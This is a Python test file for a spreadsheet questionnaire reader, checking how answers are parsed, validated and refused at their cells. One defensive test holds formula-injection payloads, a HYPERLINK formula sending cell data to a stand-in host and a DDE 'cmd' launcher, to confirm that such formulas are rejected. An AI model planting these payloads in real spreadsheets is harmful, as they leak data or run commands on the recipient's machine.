"""What each row of a questionnaire says: an answer as people write it, and what is wrong with it, at its cell."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import pytest
from inventes.atelier_fictif import build_referentiel, noeud, question, read_reponses
from inventes.questionnaire_fictif import (
    CONSTAT,
    ESSAI,
    edit,
    fill,
    find_column,
    find_row,
    refuse,
    remarks,
    save,
)
from openpyxl import Workbook
from openpyxl.worksheet.formula import ArrayFormula

from numresp.depot.echanges.questionnaire.lecture import read_questionnaire
from numresp.depot.echanges.questionnaire.lignes import clean, parse_reponse
from numresp.erreurs import DonneesInvalides


def test_a_wording_whatever_its_blanks() -> None:
    """A no-break space is a space, several are one."""
    assert clean(" Combien\u00a0de  postes\u202f? ") == "Combien de postes ?"


NIVEAUX = ESSAI.niveaux_de(ESSAI.questions["un.a"])
ECRITURES: tuple[tuple[str, object], ...] = (
    ("2", 2), ("2,0", 2), ("2.0", 2), ("2,00", 2), ("0", 0),
    ("Non concerné", "non_concerne"), ("non concerne", "non_concerne"), ("NON CONCERNÉ", "non_concerne"),
    ("non\u00a0concerné", "non_concerne"), ("ne sait pas", "ne_sait_pas"), ("Ne sait pas.", "ne_sait_pas"),
)  # fmt: skip


def test_ways_to_write_an_answer() -> None:
    """A level may be written as a decimal; words count without capitals and accents. 0 is an answer."""
    lues = {ecrit: parse_reponse(ecrit, NIVEAUX) for ecrit, _ in ECRITURES}
    assert lues == {ecrit: read_reponses({"un.a": lu})["un.a"] for ecrit, lu in ECRITURES}
    pas = ("4", "-1", "2,5", "2,01", "3 ou 2", "oui", "VRAI", "niveau 2", "²", "٢", "")
    assert [ecrit for ecrit in pas if parse_reponse(ecrit, NIVEAUX) is not None] == []


@pytest.mark.parametrize(("ecrit", "lu"), [(2, 2), (2.0, 2), (" 2 ", 2), (0, 0), ("ne sait pas ", "ne_sait_pas")])
def test_an_answer_in_its_cell(chemin: Path, ecrit: object, lu: object) -> None:
    """A number or a text, whatever the blanks around it."""
    assert read_questionnaire(fill(chemin, {"un.a": ecrit}), ESSAI).reponses == read_reponses({"un.a": lu})


@pytest.mark.parametrize(("valeur", "motif"), [(1, "0%"), (0.02, "0%"), (2, '0" %"'), (2, "0,"), (1, '0" k€"')])
def test_a_level_that_shows_something_else(chemin: Path, valeur: float, motif: str) -> None:
    """A cell that shows 100 % is not level 1: what the person saw is no answer, and is said as it was seen."""

    def change(classeur: Workbook) -> None:
        feuille = classeur["Questionnaire"]
        case = feuille.cell(find_row(feuille, "un.a"), find_column(feuille, "Votre réponse"))
        case.value, case.number_format = valeur, motif

    ((_, message, _),) = refuse(edit(chemin, change))
    assert message.startswith("réponse attendue")


@pytest.mark.parametrize("vu", [4, -1, 2.5, "2 - En voie", True, dt.date(2025, 2, 1)])
def test_answers_that_are_none(chemin: Path, vu: object) -> None:
    """Anything but a level of the question or the two other choices is refused, at its cell, with the choices."""
    ((lieu, message, remede),) = refuse(fill(chemin, {"un.a": vu}))
    assert lieu == "Questionnaire!J2"
    assert message.startswith("réponse attendue (0, 1, 2, 3, Non concerné, Ne sait pas), vu « ")
    assert remede == "choisissez dans la liste de la case"


def test_a_question_has_its_own_levels(chemin: Path) -> None:
    """3 is no answer to a question of three levels, 0 to 2."""
    ((lieu, message, _),) = refuse(fill(chemin, {"un.b": 3}))
    assert lieu == "Questionnaire!J3"
    assert message == "réponse attendue (0, 1, 2, Non concerné, Ne sait pas), vu « 3 »"


def test_rows_sorted_without_their_ids(chemin: Path) -> None:
    """A sort of the visible columns alone parts the rows from their ids: the wording shows it, and nothing is read."""

    def mix(classeur: Workbook) -> None:
        feuille = classeur["Questionnaire"]
        feuille["A2"].value, feuille["A3"].value = feuille["A3"].value, feuille["A2"].value

    fautes = refuse(edit(fill(chemin, {"un.a": 1}), mix))
    assert [lieu for lieu, _, _ in fautes] == ["Questionnaire!D2", "Questionnaire!D3"]
    assert all("les lignes ont été mêlées" in message for _, message, _ in fautes)


def test_without_id_nor_wording(chemin: Path) -> None:
    """An answer that nothing names is refused; a row of one's own without an answer is let alone."""

    def blur(classeur: Workbook) -> None:
        feuille = classeur["Questionnaire"]
        feuille.delete_cols(1)
        feuille["C2"].value = "Autre formulation"
        feuille["C3"].value = "Encore une autre"

    fill(chemin, {"un.a": 1})
    ((lieu, message, remede),) = refuse(edit(chemin, blur))
    assert (lieu, message) == ("Questionnaire!I2", "réponse sans question : ni identifiant masqué, ni intitulé connu")
    assert remede


def test_two_questions_of_the_same_wording_are_not_guessed(tmp_path: Path) -> None:
    """Without ids, a wording that two questions share names neither."""
    jumeaux = [{**question(ident, **CONSTAT), "intitule": "La même ?"} for ident in ("un.a", "un.b")]
    referentiel = build_referentiel(noeud("un", *jumeaux))
    chemin = fill(save(tmp_path / "q.xlsx", referentiel), {"un.a": 1})
    assert read_questionnaire(chemin, referentiel).reponses == read_reponses({"un.a": 1})
    with pytest.raises(DonneesInvalides, match="réponse sans question"):
        read_questionnaire(edit(chemin, lambda classeur: classeur["Questionnaire"].delete_cols(1)), referentiel)


def test_proof_without_answer_is_said(chemin: Path) -> None:
    """A proof proves an answer; alone, it is left out, and said so that it is not lost unseen."""
    retour = read_questionnaire(fill(chemin, {"un.c": "Contrat"}, "Preuve"), ESSAI)
    assert (retour.reponses, retour.preuves) == ({}, {})
    assert remarks(retour) == [
        "Questionnaire!J4 : pas de réponse à « un.c » : sa preuve et sa remarque sont laissées de côté"
    ]


def test_an_opinion_is_an_answer_only(tmp_path: Path) -> None:
    """What somebody writes beside an anonymous opinion, in columns of his own, is not read."""

    def sign(classeur: Workbook) -> None:
        feuille = classeur["Questionnaire"]
        for rang, texte in enumerate(("Remarque", "Jean Martin"), start=1):
            feuille.cell(rang, 11).value = texte

    chemin = edit(fill(save(tmp_path / "q.xlsx", ESSAI, "debats"), {"deux.x": 3}), sign)
    retour = read_questionnaire(chemin, ESSAI)
    assert (retour.role, retour.reponses) == ("debats", read_reponses({"deux.x": 3}))
    assert (retour.preuves, retour.commentaires, retour.remarques) == ({}, {}, ())


@pytest.mark.parametrize(
    "formule", ["=1+1", '=HYPERLINK("http://x/?"&A2)', "='[autre.xlsx]F'!A1", "=cmd|' /C calc'!A0"]
)
@pytest.mark.parametrize("colonne", ["Votre réponse", "Preuve", "Remarque"])
def test_formulas_are_refused(chemin: Path, formule: str, colonne: str) -> None:
    """A formula is never computed: in an answer, a proof or a remark it is refused, shown as it was typed."""
    fill(chemin, {"un.a": 1})
    ((lieu, message, remede),) = refuse(fill(chemin, {"un.a": formule}, colonne))
    assert lieu == f"Questionnaire!{ {'Votre réponse': 'J', 'Preuve': 'K', 'Remarque': 'L'}[colonne] }2"
    assert message == f"valeur attendue, vu la formule « {formule} »"
    assert remede == "tapez la valeur elle-même"


def test_array_formula(chemin: Path) -> None:
    """A formula over several cells is a formula."""
    ((_, message, _),) = refuse(fill(chemin, {"un.a": ArrayFormula("J2:J3", "=A1:A2")}))
    assert message == "valeur attendue, vu la formule « =A1:A2 »"


def test_a_text_that_looks_like_a_formula_is_a_text(chemin: Path) -> None:
    """A proof typed after an apostrophe, « '=1+1 », is the text « =1+1 »."""

    def type_in(classeur: Workbook) -> None:
        cellule = classeur["Questionnaire"]["K2"]
        cellule.value = "=1+1"
        cellule.data_type = "s"

    assert read_questionnaire(edit(fill(chemin, {"un.a": 1}), type_in), ESSAI).preuves == {"un.a": "=1+1"}
